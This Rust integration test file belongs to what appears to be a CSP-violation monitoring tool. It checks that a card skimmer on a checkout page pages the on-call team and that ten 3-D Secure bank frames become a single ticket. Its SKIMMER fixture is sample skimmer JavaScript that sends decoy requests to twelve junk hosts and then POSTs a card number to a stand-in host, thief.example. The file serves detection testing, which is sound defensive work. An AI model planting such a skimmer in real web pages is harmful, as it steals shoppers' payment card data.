//! Real browsers, a real Prometheus and a real Alertmanager: what the on-call hears of a skimmer that hides among other
//! hosts, and of a shop whose buyers confirm payments at their banks.

use std::collections::HashSet;

use hyper::Response;
use serde_json::Value;

use crate::support::browser::Browser;
use crate::support::certificates::Authority;
use crate::support::clickhouse::ClickHouse;
use crate::support::clock::Clock;
use crate::support::collector::{Collector, SHOP};
use crate::support::edge::Edge;
use crate::support::http;
use crate::support::monitoring::Monitoring;
use crate::support::server::{Received, Server};

/// What the shop allows. All else is reported, and happens all the same.
const POLICY: &str = "default-src 'self'; script-src 'self' 'unsafe-inline'; form-action 'self'";

/// Twelve hosts that have nothing to do with anything, and then the thief's; by the alphabet it is the last, too.
const SKIMMER: &str = r#"
for (let host = 10; host < 22; host += 1) {
  new Image().src = "https://junk" + host + ".example:PORT/pixel.gif";
}
const card = JSON.stringify({ number: "4111111111111111" });
fetch("https://thief.example:PORT/take", { mode: "no-cors", method: "POST", body: card });
"#;

/// A step that shows the buyer's bank in a frame of the page, posts the payment to it, and goes on to the next buyer, again and
/// again: a browser that is busy may drop a report when it leaves the page.
const BANK: &str = r#"
const buyer = Number(new URLSearchParams(location.search).get("shopper"));
const challenge = "https://acs.bank" + buyer + ".example:PORT/challenge";
const frame = document.createElement("iframe");
frame.name = "acs";
let loaded = 0;
frame.onload = () => {
  loaded += 1;
  if (loaded === 1) {
    const form = document.createElement("form");
    [form.method, form.action, form.target] = ["post", challenge, "acs"];
    document.body.append(form);
    form.submit();
  } else {
    location.search = "?shopper=" + (buyer % BUYERS + 1);
  }
};
frame.src = challenge;
document.body.append(frame);
"#;

const BUYERS: u8 = 10;

/// A shop whose checkout page runs a script, and every other host that the script names. Browsers report to the edge.
fn shop(authority: &Authority, edge: &Edge, script: &'static str) -> Server {
    let mut hosts: Vec<String> = vec!["shop.example".into(), "thief.example".into()];
    hosts.extend((10..22).map(|number| format!("junk{number}.example")));
    hosts.extend((1..=BUYERS).map(|buyer| format!("acs.bank{buyer}.example")));
    let hosts: Vec<&str> = hosts.iter().map(String::as_str).collect();
    let origin = edge.origin();
    let acceptor = authority.issue(&hosts).acceptor();
    Server::start(Some(acceptor), move |request| answer(request, &origin, script))
}

fn answer(request: &Received, origin: &str, script: &str) -> Response<String> {
    let response = Response::builder().header("content-type", "text/html");
    let Some(query) = request.target.strip_prefix("/checkout?") else {
        return response.body("<!doctype html>".to_owned()).unwrap();
    };
    let script = script.replace("PORT", &request.port).replace("BUYERS", &BUYERS.to_string());
    let page = format!("<!doctype html><title>Checkout</title><body><script>{script}</script>");
    let policy = format!("{POLICY}; report-uri {origin}/report/shop?{query}");
    response.header("content-security-policy-report-only", policy).body(page).unwrap()
}

fn checkout(shop: &Server, shopper: u8) -> String {
    format!("https://shop.example:{}/checkout?shopper={shopper}", shop.address().port())
}

/// How many hosts a shopper's browser named.
fn named_hosts(edge: &Edge, shopper: u8) -> usize {
    let reports = edge.reported_by(shopper);
    let host = |report: &Received| {
        let report: Value = serde_json::from_str(&report.body).unwrap();
        let blocked = report["csp-report"]["blocked-uri"].as_str().unwrap();
        blocked.split('/').nth(2).unwrap().to_owned()
    };
    reports.iter().map(host).collect::<HashSet<String>>().len()
}

fn alerts(collector: &Collector) -> Vec<Value> {
    let page = http::request(collector.admin(), "GET", "/alerts", "").unwrap().body;
    page.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn a_skimmer_among_junk_is_paged_at_the_second_shopper(browser: Browser) {
    let authority = Authority::new();
    let collector = Collector::build().config(SHOP).behind_proxy().start();
    let edge = Edge::before(&collector, &authority);
    let shop = shop(&authority, &edge, SKIMMER);
    for shopper in [1, 2] {
        assert_eq!(alerts(&collector), Vec::<Value>::new(), "one browser may have an extension");
        let mut window = browser.open(&checkout(&shop, shopper), &authority);
        window.service.until("all is reported", || named_hosts(&edge, shopper) == 13);
    }
    let monitoring = Monitoring::of(&collector);
    let alert = monitoring.wait_for(&[
        ("alertname", "CspwatchUnknownDestinationOnPaymentPage"),
        ("severity", "page"),
        ("site", "shop"),
        ("page_group", "payment"),
    ]);
    assert_eq!(alert["receiver"], "on-call");
    let description = alert["annotations"]["description"].as_str().unwrap();
    let leads = alert["labels"]["destination"] == "thief.example";
    assert!(leads || description.contains("thief[.]example"), "{alert:#}");
    assert!(description.contains("The same finding has 12 more"), "{alert:#}");
    let firing = monitoring.firing();
    assert!(firing.iter().all(|other| other["labels"] == alert["labels"]), "{firing:#?}");
    let stolen = |request: &Received| request.host == "thief.example" && request.method == "POST";
    assert_eq!(shop.received().into_iter().filter(stolen).count(), 2, "it did steal");
}

fn ten_banks_are_one_ticket(browser: Browser) {
    let authority = Authority::new();
    let builder = Collector::build().config(SHOP).set("site.0.page_group.0.three_d_secure", true);
    let (builder, database) = builder.behind_proxy().storing();
    let (clickhouse, mut collector) = (ClickHouse::shared(), builder.start());
    let clock = Clock::new(collector.place());
    // The banks of a week are one ticket at its end.
    clock.set("-8d");
    collector.restart_with_clock(&clock);
    let edge = Edge::before(&collector, &authority);
    let shop = shop(&authority, &edge, BANK);
    let mut window = browser.open(&checkout(&shop, 1), &authority);
    let sql = format!(
        "SELECT countDistinct(destination) FROM {database}.reports WHERE directive = 'form-action'"
    );
    let all = BUYERS.to_string();
    window.service.until("each buyer's form is stored", || {
        clickhouse.try_query(&sql).is_ok_and(|count| count == all)
    });
    drop(window);
    collector.settle();
    assert_eq!(alerts(&collector), Vec::<Value>::new());

    clock.set("+0d");
    let monitoring = Monitoring::of(&collector);
    let labels =
        [("alertname", "CspwatchDestinationsDigest"), ("severity", "ticket"), ("site", "shop")];
    let ticket = monitoring.wait_for(&labels);
    assert_eq!(ticket["receiver"], "tickets");
    let firing = monitoring.firing();
    assert!(firing.iter().all(|other| other["labels"] == ticket["labels"]), "{firing:#?}");
    let raised = alerts(&collector);
    assert_eq!(raised.len(), 1, "{raised:#?}");
    assert_eq!(raised[0]["destinations"].as_array().map(Vec::len), Some(10), "{raised:#?}");
}

#[test]
fn chromium_a_skimmer_that_names_junk_first_is_paged_at_the_second_shopper() {
    a_skimmer_among_junk_is_paged_at_the_second_shopper(Browser::Chromium);
}

#[test]
fn firefox_a_skimmer_that_names_junk_first_is_paged_at_the_second_shopper() {
    a_skimmer_among_junk_is_paged_at_the_second_shopper(Browser::Firefox);
}

#[test]
fn chromium_ten_banks_of_ten_buyers_are_one_ticket() {
    ten_banks_are_one_ticket(Browser::Chromium);
}

#[test]
fn firefox_ten_banks_of_ten_buyers_are_one_ticket() {
    ten_banks_are_one_ticket(Browser::Firefox);
}
